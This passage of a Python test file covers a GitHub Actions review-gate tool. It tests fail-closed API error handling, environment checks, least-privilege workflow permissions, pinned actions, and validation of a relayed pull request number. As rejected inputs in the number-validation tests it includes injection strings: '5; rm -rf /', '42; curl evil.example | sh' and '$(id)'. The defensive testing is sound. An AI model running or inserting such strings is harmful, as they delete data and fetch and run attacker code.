    ("approved", "GET", r"/pulls/5/files$", 500, 0, f"GET {REPO}/pulls/5/files", "Server Error", []),
    ("approved", "GET", r"/pulls/5/commits$", 403, 0, f"GET {REPO}/pulls/5/commits", "Forbidden", []),
    ("approved", "GET", r"/contents/", 503, 0, f"GET {REPO}/contents/{SUBMISSION}?ref={A}", "Server Error", []),
    ("approved", "GET", r"/pulls/5/reviews$", 502, 0, f"GET {REPO}/pulls/5/reviews", "Server Error", []),
    ("approved", "GET", r"/issues/5/events$", 403, 0, f"GET {REPO}/issues/5/events", "Forbidden", []),
    ("approved", "GET", r"/issues/5/labels$", 500, 0, f"GET {REPO}/issues/5/labels", "Server Error", []),
    ("approved", "GET", r"/issues/5/comments$", 502, 0, f"GET {REPO}/issues/5/comments", "Server Error", []),
    ("tie", "GET", r"/pulls$", 502, 0, f"GET {REPO}/pulls?state=open", "Server Error", []),
    # Writes after pending: a success decision is never published.
    ("approved", "GET", r"/labels/approved$", 502, 0, f"GET {REPO}/labels/approved", "Server Error", [PENDING]),
    ("approved", "POST", r"/labels$", 403, 0, f"POST {REPO}/labels", "Forbidden" + REFUSED, [PENDING]),
    ("approved", "POST", r"/issues/5/labels$", 500, 0, f"POST {REPO}/issues/5/labels", "Server Error", [PENDING]),
    ("approved", "POST", r"/issues/5/comments$", 503, 0, f"POST {REPO}/issues/5/comments", "Server Error", [PENDING]),
    # The scoring template posted, then the summary of the success decision refused.
    ("approved", "POST", r"/issues/5/comments$", 403, 1, f"POST {REPO}/issues/5/comments", "Forbidden" + REFUSED, [PENDING]),
    ("approved", "PUT", r"/dismissals$", 502, 0, f"PUT {REPO}/pulls/5/reviews/1002/dismissals", "Server Error", [PENDING]),
    ("rerun", "DELETE", r"/labels/needs-tiebreak$", 500, 0, f"DELETE {REPO}/issues/5/labels/needs-tiebreak", "Server Error", [PENDING]),
    ("rerun", "PATCH", r"/issues/comments/2$", 403, 0, f"PATCH {REPO}/issues/comments/2", "Forbidden" + REFUSED, [PENDING]),
    ("tie", "POST", r"/requested_reviewers$", 403, 0, f"POST {REPO}/pulls/5/requested_reviewers", "Forbidden" + REFUSED, [PENDING]),
]


@pytest.mark.parametrize(
    ("kind", "method", "path", "status", "after", "call", "said", "before"),
    FAILURES,
    ids=[f"{c[0]} {c[5].replace(REPO, '').replace(A, 'sha').split('?')[0]} {c[3]}" + (" later" if c[4] else "") for c in FAILURES],
)
def test_an_api_error_anywhere_fails_closed(
    fake: FakeGitHub, gate: Gate, kind: str, method: str, path: str, status: int, after: int, call: str, said: str, before: list[Any]
) -> None:
    _scenario(fake, kind)
    fake.fail, fake.fail_after = (method, path, status), after
    run = gate()
    assert (run.code, run.out, run.err) == (1, "", f"microcred: gate: {call} answered HTTP {status}: {said}\n")
    failure = f"the gate could not finish: {call}"
    assert statuses(fake) == [*before, ("aaaaaaa", "failure", failure if len(failure) <= 140 else failure[:139] + "…")]
    assert fake.reviews[5][1]["state"] == "CHANGES_REQUESTED"  # nothing dismissed after a failure


def test_when_the_decision_cannot_be_published_the_status_stays_pending(fake: FakeGitHub, gate: Gate) -> None:
    _scenario(fake, "approved")
    fake.fail, fake.fail_after = ("POST", r"/statuses/", 502), 1  # pending is set, then every status is refused
    run = gate()
    call = f"POST {REPO}/statuses/{A}"
    assert (run.code, run.out) == (1, "")
    assert run.err == (
        f"microcred: gate: {call} answered HTTP 502: Server Error\n"
        f"microcred: gate: the status could not be set to failure either: {call} answered HTTP 502: Server Error\n"
    )
    assert statuses(fake) == [PENDING]


def test_when_not_even_pending_can_be_set_nothing_else_is_written(fake: FakeGitHub, gate: Gate) -> None:
    _scenario(fake, "approved")
    fake.fail = ("POST", r"/statuses/", 500)
    run = gate()
    assert (run.code, run.err) == (1, f"microcred: gate: POST {REPO}/statuses/{A} answered HTTP 500: Server Error\n")
    assert writes(fake) == [f"POST /statuses/{A}"]  # not retried, and no failure status over the same refused call
    assert fake.statuses == [] and fake.comments == [] and fake.pulls[5].labels == []


def test_a_closed_pull_request_is_left_alone(fake: FakeGitHub, gate: Gate) -> None:
    submission(fake)
    fake.pulls[5].state = "closed"
    assert gate().out == "pull request #5 is closed: nothing to do\n"
    assert fake.writes == []


@pytest.mark.parametrize(
    ("name", "value", "message"),
    [
        ("GITHUB_TOKEN", None, "set GITHUB_TOKEN to a token that may write statuses, pull requests and issues"),
        ("GITHUB_TOKEN", "  ", "set GITHUB_TOKEN to a token that may write statuses, pull requests and issues"),
        ("GITHUB_REPOSITORY", None, "set GITHUB_REPOSITORY to the repository as OWNER/NAME"),
        ("GITHUB_REPOSITORY", "just-a-name", "set GITHUB_REPOSITORY to OWNER/NAME (it is 'just-a-name')"),
        ("GITHUB_REPOSITORY", "a/b/c", "set GITHUB_REPOSITORY to OWNER/NAME (it is 'a/b/c')"),
        (
            "GITHUB_API_URL",
            None,
            "set GITHUB_API_URL to the API's address: https://api.github.com, or https://HOST/api/v3 for GitHub Enterprise Server",
        ),
        ("GITHUB_API_URL", "api.github.com", "set GITHUB_API_URL to an http(s) address (it is 'api.github.com')"),
    ],
)
def test_the_environment_is_checked_before_anything_is_asked(
    fake: FakeGitHub, gate: Gate, monkeypatch: pytest.MonkeyPatch, name: str, value: str | None, message: str
) -> None:
    if value is None:
        monkeypatch.delenv(name)
    else:
        monkeypatch.setenv(name, value)
    run = gate()
    assert (run.code, run.out, run.err) == (2, "", f"microcred: error: {message}\n")
    assert fake.requests == []


def test_the_number_must_be_a_pull_request_number(fake: FakeGitHub, cli: Callable[..., Run], repo: Path) -> None:
    for bad in ("5; rm -rf /", "0", "-3", "five"):
        with pytest.raises(SystemExit) as usage:
            cli("gate", "--pr", bad, "--root", str(repo), cwd=repo)
        assert usage.value.code == 2
    assert fake.requests == []


# -- the workflows ------------------------------------------------------------------------------


def _workflow(name: str) -> dict[Any, Any]:
    data: dict[Any, Any] = yaml.safe_load((WORKFLOWS / name).read_text(encoding="utf-8"))
    return data


def _steps(workflow: dict[str, Any]) -> list[dict[str, Any]]:
    return [step for job in workflow["jobs"].values() for step in job["steps"]]


def test_the_relay_has_no_rights_and_only_records_the_number() -> None:
    relay = _workflow("review-relay.yml")
    assert relay[True] == {"pull_request_review": {"types": ["submitted", "edited", "dismissed"]}}  # PyYAML reads `on` as True
    assert relay["permissions"] == {}
    [job] = relay["jobs"].values()
    assert job["permissions"] == {}
    steps = _steps(relay)
    assert not [s for s in steps if "actions/checkout" in s.get("uses", "")]
    assert [s.get("uses", "run").split("@")[0] for s in steps] == ["run", "actions/upload-artifact"]
    assert steps[0]["env"] == {"PR_NUMBER": "${{ github.event.pull_request.number }}"}


def test_the_gate_workflow_runs_default_branch_code_with_least_privilege() -> None:
    text = (WORKFLOWS / "review-gate.yml").read_text(encoding="utf-8")
    workflow = _workflow("review-gate.yml")
    assert set(workflow[True]) == {"pull_request_target", "workflow_run", "workflow_dispatch"}
    assert workflow[True]["pull_request_target"] == {"types": ["opened", "synchronize", "reopened", "ready_for_review", "edited"]}
    assert workflow[True]["workflow_run"] == {"workflows": ["review relay"], "types": ["completed"]}
    assert workflow["permissions"] == {}
    jobs = workflow["jobs"]
    assert jobs["number"]["permissions"] == {"actions": "read"}
    assert jobs["gate"]["permissions"] == {"contents": "read", "statuses": "write", "pull-requests": "write", "issues": "write"}
    assert jobs["gate"]["concurrency"] == {"group": "review-gate-${{ needs.number.outputs.pr }}", "cancel-in-progress": False}
    [checkout] = [s for s in _steps(workflow) if "actions/checkout" in s.get("uses", "")]
    assert checkout["with"] == {"ref": "${{ github.event.repository.default_branch }}", "persist-credentials": False}
    assert not [
        word for word in ("pull_request.head", "head_ref", "head_sha", "refs/pull") if word in text
    ]  # never the pull request's code
    resolve = next(s for s in _steps(workflow) if s.get("id") == "resolve")
    assert "[0-9]" in resolve["run"] and "${{" not in resolve["run"]
    gate = next(s for s in jobs["gate"]["steps"] if "microcred gate" in s.get("run", ""))
    assert gate["run"] == 'microcred gate --pr "$PR_NUMBER"'
    assert gate["env"] == {
        "GITHUB_TOKEN": "${{ github.token }}",
        "MICROCRED_INTAKE_TOKEN": "${{ secrets.MICROCRED_INTAKE_TOKEN }}",
        "MICROCRED_BLIND_KEY": "${{ secrets.MICROCRED_BLIND_KEY }}",
        "PR_NUMBER": "${{ needs.number.outputs.pr }}",
    }


@pytest.mark.parametrize(
    ("event", "relay", "number"),
    [
        ("workflow_run", b"42\n", "42"),
        ("workflow_run", b"42", "42"),
        ("workflow_run", b"42\n7\n", "42"),  # the first line only
        ("workflow_run", b"42\r\n", None),
        ("workflow_run", b"42; curl evil.example | sh\n", None),
        ("workflow_run", b"$(id)\n", None),
        ("workflow_run", b"42\npr=1\n", "42"),
        ("workflow_run", b"4" * 11 + b"\n", None),  # more than ten digits
        ("workflow_run", b"7" * 100_000, None),  # read stops after 32 characters
        ("workflow_run", b"", None),
        ("workflow_run", None, None),  # no artifact
        ("pull_request_target", None, "5"),
        ("workflow_dispatch", None, "9"),
    ],
)
def test_the_number_from_the_relay_is_digits_or_nothing(tmp_path: Path, event: str, relay: bytes | None, number: str | None) -> None:
    """The resolve step, run as Actions runs it, on what a fork's relay could upload."""
    step = next(s for s in _steps(_workflow("review-gate.yml")) if s.get("id") == "resolve")
    script, output, path = tmp_path / "resolve.sh", tmp_path / "output", tmp_path / "relay" / "pr-number.txt"
    script.write_text(step["run"], encoding="utf-8")
    output.write_text("", encoding="utf-8")
    if relay is not None:
        path.parent.mkdir()
        path.write_bytes(relay)
    env = {"PATH": "/usr/bin:/bin", "GITHUB_OUTPUT": str(output), "EVENT": event, "FROM_EVENT": "5", "FROM_INPUT": "9", "RELAY": str(path)}
    done = subprocess.run(["bash", "--noprofile", "--norc", "-eo", "pipefail", str(script)], env=env, capture_output=True, text=True)
    if number is None:
        assert (done.returncode, done.stdout, output.read_text(encoding="utf-8")) == (
            1,
            "::error::the pull request number is missing or not digits\n",
            "",
        )
    else:
        assert (done.returncode, done.stdout, output.read_text(encoding="utf-8")) == (0, "", f"pr={number}\n")


@pytest.mark.parametrize(
    "command",
    [
        ["zizmor", "--offline", "--quiet", ".github/workflows"],
        ["check-jsonschema", "--builtin-schema", "vendor.github-workflows", *sorted(str(p) for p in WORKFLOWS.glob("*.yml"))],
        ["check-jsonschema", "--builtin-schema", "vendor.github-issue-forms", ".github/ISSUE_TEMPLATE/credential-idea.yml"],
        ["check-jsonschema", "--builtin-schema", "vendor.github-issue-config", ".github/ISSUE_TEMPLATE/config.yml"],
    ],
    ids=["zizmor", "workflows", "issue-forms", "issue-config"],
)
def test_workflows_and_issue_forms_pass_the_offline_linters(command: list[str]) -> None:
    """What CI runs, here too: a finding fails the tests, not only the lint step."""
    tool = Path(sys.executable).parent / command[0]
    done = subprocess.run(
        [str(tool), *command[1:]], cwd=ROOT, capture_output=True, text=True, env={"PATH": "/usr/bin:/bin", "NO_COLOR": "1"}
    )
    assert done.returncode == 0, done.stdout + done.stderr
    assert done.stdout.startswith("No findings to report." if command[0] == "zizmor" else "ok -- validation done\n")


@pytest.mark.parametrize("name", ["review-relay.yml", "review-gate.yml", "blind-relay.yml"])
def test_gate_workflows_pin_every_action_to_a_commit(name: str) -> None:
    text = (WORKFLOWS / name).read_text(encoding="utf-8")
    pinned = re.findall(r"^ +(?:- )?uses: ([\w./-]+)@([0-9a-f]{40})  # (v[\d.]+)$", text, re.MULTILINE)
    assert len(pinned) == len(re.findall(r"^ +(?:- )?uses:", text, re.MULTILINE)) > 0
    known = {
        "actions/checkout": ("11bd71901bbe5b1630ceea73d27597364c9af683", "v4.2.2"),
        "actions/setup-python": ("42375524e23c412d93fb67b49958b491fce71c38", "v5.4.0"),
        "actions/upload-artifact": ("ea165f8d65b6e75b540449e92b4886f43607fa02", "v4.6.2"),
        "actions/download-artifact": ("d3f86a106a0bac45b974a628896c90dbdf5c8093", "v4.3.0"),
    }
    assert all(known[action] == (sha, version) for action, sha, version in pinned)
